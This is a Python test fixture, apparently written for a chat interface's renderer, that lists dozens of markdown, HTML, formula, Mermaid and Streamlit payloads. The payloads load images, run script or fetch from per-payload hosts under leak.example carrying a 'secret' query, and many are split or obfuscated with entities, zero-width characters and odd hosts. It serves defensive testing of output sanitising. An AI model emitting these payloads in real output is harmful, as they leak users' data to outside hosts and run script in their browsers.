"""Ways in which a text can try to call out, run or pass for something else.

Every way names an address of its own, so that what arrives tells which way it came.
"""

from __future__ import annotations

from dataclasses import dataclass

# Everything below it is a stranger.
DOMAIN = "leak.example"
# Where a stream is cut in two.
CUT = "‖"


@dataclass(frozen=True, slots=True)
class Way:
    """A text that calls out; `alone` says that it leaves open what would swallow the next."""

    name: str
    marked: str
    alone: bool = False

    @property
    def host(self) -> str:
        """The stranger that only this way names."""
        return f"{self.name.replace(' ', '-')}.{DOMAIN}"

    @property
    def pieces(self) -> tuple[str, ...]:
        """The text as it is streamed, cut where it hurts."""
        address = f"http://{self.host}/p?q=secret"
        text = self.marked.replace("URL", address).replace("HOST", self.host)
        return tuple(text.split(CUT))

    @property
    def text(self) -> str:
        """The whole of it."""
        return "".join(self.pieces)


# fmt: off
WAYS = (
    # images
    Way("inline image", "![x](URL)"),
    Way("image cut in its mark", "!‖[x](URL)"),
    Way("image cut in its text", "![‖x‖](URL)"),
    Way("image cut before its address", "![x]‖(‖URL)"),
    Way("image cut in its scheme", "![x](ht‖tp:‖//HOST/a.png)"),
    Way("image cut before its end", "![x](URL‖)"),
    Way("image with title", '![x](URL "a title")'),
    Way("image in angle brackets", "![x](<URL>)"),
    Way("reference image", "![x][ref]\n\n[ref]: URL"),
    Way("collapsed reference", "![pic][]\n\n[pic]: <URL>"),
    Way("shortcut reference", "![short]\n\n[short]: URL 'title'"),
    Way("reference cut late", "![late][far]\n\nmore words\n\n[far]‖: ‖URL"),
    Way("nested image", "![![x](URL)](URL)"),
    Way("image in a link", "[![x](URL)](URL)"),
    Way("image in a citation", "[1![x](URL)] and [![x](URL)1](URL)"),
    Way("image after a citation", "It is so [1]![x](URL)[2]."),
    Way("citation with address", "It is so [1](URL), and so [[2]](URL)."),
    Way("citation as definition", "It is so [3].\n\n[3]: URL"),
    Way("image in a table", "| a | b |\n| --- | --- |\n| ![x](URL) | `c \\| ![x](URL)` |"),
    Way("image in a heading", "# ![x](URL)"),
    Way("image in a quote", "> - ![x](URL)"),
    Way("image in emphasis", "***![x](URL)***"),
    Way("image over lines", "![x\ny](URL)"),
    Way("image after a backslash", "\\\\![x](URL)"),
    Way("protocol relative image", "![x](//HOST/p.png)"),
    Way("backslash address", "![x](http:\\\\HOST/p.png) ![x](/\\HOST/p.png)"),
    Way("image by https", "![x](https://HOST/p.png)"),
    Way("image with user", "![x](http://user:password@HOST/p.png)"),
    Way("image with port", "![x](http://HOST:8080/p.png)"),
    Way("percent host", "![x](http://%70ercent-host.leak.example/p.png)"),
    Way("punycode host", "![x](http://xn--fiqs8s.HOST/p.png)"),
    Way("wide host", "![x](http://wide-host．leak．example/p.png)"),
    Way("chinese host", "![图](http://图片.HOST/图.png)"),
    Way("image in chinese", "请看‖！‖[图](URL)和![重排](URL)。"),
    Way("wide brackets", "！［x］（URL） ！【x】（URL） !［x］(URL)"),
    Way("entity mark", "&#33;[x](URL) &#x21;&#x5b;x&#x5d;&#x28;URL&#x29;"),
    Way("entity in the address", "![x](http&#58;//HOST/p.png) ![x](http&colon;&sol;&sol;HOST/p)"),
    Way("zero width", "!\u200b[x](URL) ![x]\u200b(URL) ![x](\u200bURL) !\u2060[x]\u2060(URL)"),
    Way("control characters", "!\x00[x](URL) ![x](\x1bURL) \u202e![x](URL)"),
    Way("data image", "![x](data:image/svg+xml,<svg><image href='URL'/></svg>) "
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"),
    Way("data page", "[x](data:text/html,<script>fetch('URL')</script>)"),
    # links
    Way("javascript link", "[x](javascript:fetch('URL')) [x](JaVaScRiPt&#58;alert(1))"),
    Way("script link cut", "[x](java‖script:‖alert(1)) [x](URL)"),
    Way("reference link", "[x][there]\n\n[there]: URL"),
    Way("link that lies", "[http://localhost/](URL)"),
    Way("autolink in brackets", "<URL> <a@HOST> <javascript:alert(1)>"),
    Way("autolink without brackets", "see URL and https://HOST/ now"),
    Way("autolink without scheme", "see www.HOST and a@HOST and mailto:a@HOST"),
    Way("autolink in chinese", "请看URL。或www.HOST，写信a@HOST"),
    Way("autolink made by marks", "http:[](x)//HOST www[.](x)HOST *http*://HOST"),
    Way("prefetch autolink cut", "ht‖tp:/‖/HO‖ST/x w‖ww.‖HOST"),
    Way("footnote", "It is so[^1].\n\n[^1]: ![x](URL) and URL"),
    # HTML
    Way("img tag", "<img src=URL onerror=alert(1)> <IMG SRC='URL'/>"),
    Way("img tag cut", "<im‖g src=‖'URL'‖ onerror=alert(1)‖>"),
    Way("srcset", '<img srcset="URL 1x, URL 2x"><picture><source srcset=URL></picture>'),
    Way("svg tag", "<svg onload=alert(1)><image href=URL /><use href=URL /></svg>"),
    Way("script tag", "<script src=URL></script><script>fetch('URL');alert(1)</script>"),
    Way("style import", "<style>@import 'URL'; body{background:url(URL)}</style>"),
    Way("style attribute", '<p style="background:url(URL)">x</p>'),
    Way("link tag", "<link rel=stylesheet href=URL><link rel=prefetch href=URL>"),
    Way("meta refresh", '<meta http-equiv="refresh" content="0;url=URL">'),
    Way("base tag", "<base href=URL>"),
    Way("iframe", "<iframe src=URL></iframe><iframe srcdoc=\"<img src='URL'>\"></iframe>"),
    Way("media tags", "<video poster=URL autoplay></video><audio src=URL autoplay></audio>"),
    Way("object and embed", "<object data=URL></object><embed src=URL>"),
    Way("form", "<form action=URL><input type=image src=URL autofocus onfocus=alert(1)></form>"),
    Way("details tag", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Way("closing tags", "</p></div></template></textarea></title></script><img src=URL>"),
    Way("html entities", "&lt;img src=URL&gt; &#60;script src=URL&#62;"),
    Way("processing instruction", '<?xml-stylesheet href="URL"?> <![CDATA[<img src=URL>]]>'),
    Way("image in a comment", "<!-- --><img src=URL><!-- ![x](URL) -->"),
    Way("image in a block of html", "<div>\n\n![x](URL)\n\n</div>"),
    # formulas, drawings and code
    Way("formula link", "$\\href{URL}{x}$ and $$\\href{javascript:alert(1)}{y}$$"),
    Way("formula picture", "$\\includegraphics{URL}$ $$\\url{URL}$$ $\\htmlStyle{a:url(URL)}{x}$"),
    Way("formula cut", "$‖\\href{‖URL}{x}‖$"),
    Way("mermaid", "```mermaid\ngraph LR\n  A@{ img: 'URL' }\n  click A href \"URL\"\n```"),
    Way("mermaid cut", "``‖`mer‖maid\ngraph LR\n  A[\"<img src='URL'>\"]\n``‖`"),
    Way("mermaid by entity", "~~~ mer&#109;aid {x}\ngraph LR\n  A@{ img: 'URL' }\n~~~"),
    Way("formula fence", "```math\n\\includegraphics{URL}\n```"),
    Way("html fence", "```html\n<img src=URL>\n```\n\n``` dot\ndigraph { a [image=\"URL\"] }\n```"),
    Way("code with ticks", "`a` ``![x](URL)` ![y](URL)"),
    Way("deep code", "    ```\n    ![x](URL)\n\n![y](URL)"),
    # marks that Streamlit adds
    Way("icon", ":material/home: :material_home: :streamlit: ![x](URL)"),
    Way("colour", ":red[![x](URL)] :blue-background[<URL>] :rainbow[URL]"),
    Way("coloured style", ":color[x]{foreground=\"url(URL)\" background=\"url(URL)\"}"),
    Way("badge", ":green-badge[:material/check: ![x](URL)] :small[URL]"),
    Way("colour cut", ":re‖d[‖![x](URL)‖]"),
    Way("emoji", ":smile: :+1: 重排:smile:序 ![:smile:](URL)"),
    Way("arrows", "a -> b <- c <-> d >= e [->](URL)"),
    Way("leaf directive", "::image{src=URL} :::iframe{src=URL}\nx\n:::"),
    # what is left open
    Way("open image", "![x](URL", alone=True),
    Way("open fence", "```mermaid\ngraph LR\n  A@{ img: 'URL' }", alone=True),
    Way("open comment", "<!-- ![x](URL)", alone=True),
    Way("open tag", "<img src=\"URL", alone=True),
)
# fmt: on


def groups(size: int) -> list[tuple[Way, ...]]:
    """All ways, so many together; a way that leaves something open is the last of its group."""
    together = [way for way in WAYS if not way.alone]
    found = [together[start : start + size] for start in range(0, len(together), size)]
    open_ended = [way for way in WAYS if way.alone]
    found += [[] for _ in open_ended[len(found) :]]
    for group, way in zip(found, open_ended, strict=False):
        group.append(way)
    return [tuple(group) for group in found]


def streamed(group: tuple[Way, ...]) -> list[str]:
    """The pieces of an answer that holds these ways, each in a paragraph of its own."""
    pieces = ["The hangar holds these [1].\n\n"]
    for way in group:
        pieces += [*way.pieces, "\n\n"]
    return pieces
